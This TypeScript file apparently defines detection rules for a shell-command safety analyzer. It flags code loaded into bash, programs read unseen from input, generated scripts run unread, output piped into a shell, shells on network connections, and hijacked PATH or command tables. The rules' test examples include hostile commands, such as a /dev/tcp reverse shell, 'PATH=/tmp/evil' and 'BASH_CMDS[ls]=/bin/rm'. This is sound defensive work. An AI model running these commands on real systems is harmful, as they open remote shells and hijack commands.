/** What the shell itself is made to load or to run later, and programs read from what was not judged. */
import { sourceOf } from '../../shell/programs.ts';
import { isInput, isInterpreter, isShell } from '../../shell/shells.ts';
import { hole, type Analysis, type Simple } from '../../shell/types.ts';
import { comesUnseen, decodesWithin, fetchesWithin, followsDecode, followsFetch, runsDecoded, runsDownload } from './foreign.ts';
import { readsInput } from './dangerous-run.ts';
import { resolvePath } from '../../shell/paths.ts';
import { argsOf, type Rule } from './rule.ts';
import { writesOf } from '../../shell/writes.ts';

/** `awk -f -`, `make -f <(...)`: not a file that could be read before. */
function readsProgramUnseen(command: Simple): boolean {
  const source = sourceOf(command);
  return source === 'input' ? argsOf(command).some((arg) => isInput(arg.replace(/^(?:-[a-zA-Z]*f|--\w+=)/, ''))) : source?.raw.includes('<(') === true;
}

/** `tee >(sh)`: what is written there is run. */
function writesToShell({ words, redirects }: Simple, analysis: Analysis): boolean {
  const substituted = [...words, ...redirects.map(({ target }) => target)].filter(({ raw }) => raw.startsWith('>('));
  return substituted.some((word) => readersIn(analysis).some(({ start, end }) => word.start <= start && end <= word.end));
}

/** Once for each analysis: many commands may ask. */
const readers = new WeakMap<Analysis, readonly Simple[]>();

function readersIn(analysis: Analysis): readonly Simple[] {
  const found = readers.get(analysis) ?? analysis.commands.filter((each) => each.words.length > 0 && readsInput(each));
  readers.set(analysis, found);
  return found;
}

/** Another rule says more of where the text comes from. */
const isKnownFrom = (command: Simple, analysis: Analysis): boolean =>
  [comesUnseen, followsFetch, followsDecode, fetchesWithin, decodesWithin, runsDecoded, runsDownload].some((test) => test(command, analysis));

/** Entries of a search path that holds from there on. */
const searched = ({ assignments, words, program }: Simple): readonly string[] =>
  words.length === 0 || /^(?:export|declare|typeset|local|readonly)$/.test(program ?? '') ? assignments.flatMap(({ name, value }) => (name === 'PATH' ? value.split(':') : [])) : [];

/** Whether the text puts something into that directory. */
function fills(entry: string, { cwd }: Simple, { commands }: Analysis): boolean {
  const directory = entry.startsWith(hole) ? null : resolvePath(entry, cwd);
  // Programs are installed there, for good.
  if (directory !== null && /^~\/(?:\.local\/|\.cargo\/|go\/)?bin$|^\/usr\/local\/s?bin$/.test(directory)) return false;
  return directory !== null && commands.some((each) => each.program !== 'mkdir' && writesOf(each).some(({ path }) => path?.startsWith(`${directory}/`) === true));
}

const tables = /^(?:BASH_CMDS|BASH_ALIASES)$/;

export const shellRules: readonly Rule[] = [
  {
    id: 'D26l', description: 'code loaded into the shell', programs: ['enable'],
    test: (command) => argsOf(command).some((arg) => /^-[adnps]*f/.test(arg)),
    yes: ['enable -f ./x.so x', 'builtin enable -nf ./x.so x'],
    no: ['enable -n test', 'enable'],
  },
  {
    id: 'D26i', description: 'program read from the input of its interpreter', programs: ['awk', 'gawk', 'mawk', 'nawk', 'sed', 'gsed', 'make', 'gmake'],
    test: readsProgramUnseen,
    yes: ['make -f /dev/stdin', 'make -f <(x)', 'cat x | awk -f -', 'sed -f- f'],
    no: ['make -f x.mk', 'awk -f "$x" f', 'sed -f x.sed -', 'make', 'awk 1 -'],
  },
  {
    id: 'D15u', description: 'text that the command makes, run unread', programs: ['*'],
    test: (command, analysis) => analysis.unread.has(command) && !isKnownFrom(command, analysis),
    yes: ["sed 's/^x//' a > b; sh b", "awk '{print > \"s\"}' f; . ./s", 'sort -o s f; bash < s', "(true && echo 'ls') | sh", '{ echo a; echo b; } | bash', '(echo a; echo b) | sh', 'sh <(x | y)', '. <(./make-env)', 'exec 3<<E\nls\nE\nsh <&3', '. /dev/fd/3 3<<E\nls\nE', 'mkfifo p; sh < p & echo ls > p', 'coproc sh; echo ls >&"${COPROC[1]}"', 'head -n1 a > d/x; chmod +x d/x; d/x', 'cp <(x) s; sh s', 'install /dev/stdin s < f; sh s', "tar cf a.tar s; rm s; tar xf a.tar; sh s", "x > m.py; python3 m.py", 'exec < f; sh'],
    no: ['echo ls > s; sh s', 'cat a.sh | sh', 'sh a.sh', 'cp a.sh b.sh; sh b.sh', 'sort a > b; sh c', '. <(kubectl completion bash)', 'gcc -o x x.c && ./x', 'tar xf a.tgz && ./a/run', "sed -i 's/a/b/' x.sh && sh x.sh", 'make > build.log; ./x', '{ echo a; echo b; } > s; cat s', 'sh x.sh > x.log; cat x.log', 'cat dump.sql | mysql db', '(cat a; cat b) | psql db'],
  },
  {
    id: 'D15o', description: 'output written to a shell that runs it', programs: ['*'],
    test: writesToShell,
    yes: ['x | tee >(sh)', 'x > >(bash)'],
    no: ['x > >(tee log)', 'x | tee >(sh y.sh)'],
  },
  {
    id: 'D16n', description: 'shell or program on a network connection', programs: ['*'],
    test: ({ program, redirects }) => (isShell(program) || isInterpreter(program)) && redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text)),
    yes: ['bash -i >& /dev/tcp/h/1 0>&1', 'sh </dev/tcp/h/80', 'bash < /dev/udp/h/53', 'python3 < /dev/tcp/h/80'],
    no: ['cat </dev/tcp/time/13', 'echo x > /dev/tcp/h/80', 'sh x.sh < in'],
  },
  {
    id: 'D27p', description: 'search path with a directory in which others may write', programs: ['*'],
    test: (command, analysis) => searched(command).some((entry) => /^(?:\.?\/?|\/(?:tmp|var\/tmp|dev\/shm)(?:\/.*)?)$/.test(entry) || fills(entry, command, analysis)),
    yes: ['export PATH=/tmp/evil; ls', 'PATH=/tmp/evil; ls', 'PATH=.:$PATH; ls', 'export PATH=$PATH:', 'declare -x PATH=/dev/shm/x:$PATH', 'mkdir b; ln -s /bin/x b/ls; export PATH=$PWD/b:$PATH; ls', 'echo x > b/ls; PATH=b:$PATH; ls'],
    no: ['export PATH="$HOME/.local/bin:$PATH"', 'PATH=$PATH:/opt/x/bin; ls', 'export PATH=./node_modules/.bin:$PATH', 'export MANPATH=/tmp', 'mkdir -p bin; export PATH=$PWD/bin:$PATH', 'curl -Lo ~/.local/bin/jq h; export PATH=$HOME/.local/bin:$PATH', 'echo x > log; export PATH=$PWD/bin:$PATH'],
  },
  {
    id: 'D27n', description: 'other meaning of names, or of what is run at each prompt', programs: ['*'],
    test: ({ assignments }) => assignments.some(({ name, value }) => tables.test(name) || (name === 'PROMPT_COMMAND' && value.includes(hole))),
    yes: ['BASH_CMDS[ls]=/bin/rm; ls', 'PROMPT_COMMAND+=x', 'declare -A BASH_ALIASES=([ls]=x)'],
    no: ['PROMPT_COMMAND=', 'm[ls]=x', "PROMPT_COMMAND='history -a'"],
  },
];
